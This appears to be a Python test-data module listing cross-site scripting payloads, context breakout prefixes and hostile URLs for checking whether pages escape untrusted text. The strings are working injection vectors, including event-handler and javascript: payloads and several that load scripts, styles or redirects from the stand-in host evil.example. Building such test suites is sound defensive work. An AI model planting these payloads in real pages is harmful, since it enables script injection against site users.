"""Texts that become markup, or scripts, wherever a page forgets to escape them."""

from itertools import product

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>click</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!-- <img src=x onerror=alert(1)>",
    "<b><unclosed",
)
# What the text may have to get out of first: text, attributes, raw text elements, comments, CDATA.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></script></style>",
    "-->",
    "]]>",
    '" autofocus onfocus=alert(1) x="',
)
UNCLOSED = "<img src=x onerror=alert(1) "
TEXTS = tuple(breakout + vector for vector, breakout in product(VECTORS, BREAKOUTS))
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "//evil.example/><img src=x onerror=alert(1)>",
)
